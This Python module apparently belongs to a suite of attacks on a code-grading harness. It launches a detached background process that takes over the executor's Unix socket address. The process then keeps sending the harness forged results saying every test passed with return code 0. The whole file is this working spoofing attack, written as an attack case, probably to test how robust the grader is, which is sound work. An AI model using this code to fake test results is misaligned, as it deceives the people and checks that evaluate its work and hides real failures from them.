"""Listens in the grader at the executor's address, to tell the harness that every test of the next run has passed."""

from attack import MARK, POD_ADDRESS, TESTS, Attack, code

ANSWER = f"""
import json, os, socket, struct, sys
listener = socket.socket(socket.AF_UNIX)
try:
    listener.bind(sys.argv[1])
except OSError:
    os.makedirs("/tmp" + os.path.dirname(sys.argv[1]))
    listener.bind("/tmp" + sys.argv[1])
listener.listen()
connection = listener.accept()[0]
output = "".join("PASSED %s\\\\n" % test for test in {TESTS!r}).encode()
answer = dict(ready=True, home="/root", bash="/bin/bash", machine="x86_64", environment=dict(), stamps=[], files=0)
answer.update(returncode=0, limit=None, dropped_bytes=0, wall_s=0.1)
while True:
    text = json.dumps(answer).encode()
    connection.sendall(struct.pack("!II", len(text), len(output)) + text + output)
    connection.recv(1 << 20)
"""
START = f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", {ANSWER!r}, address, "{MARK}"], start_new_session=True)
"""
ATTACK = Attack((code(POD_ADDRESS + START),), kinds=("pod",))
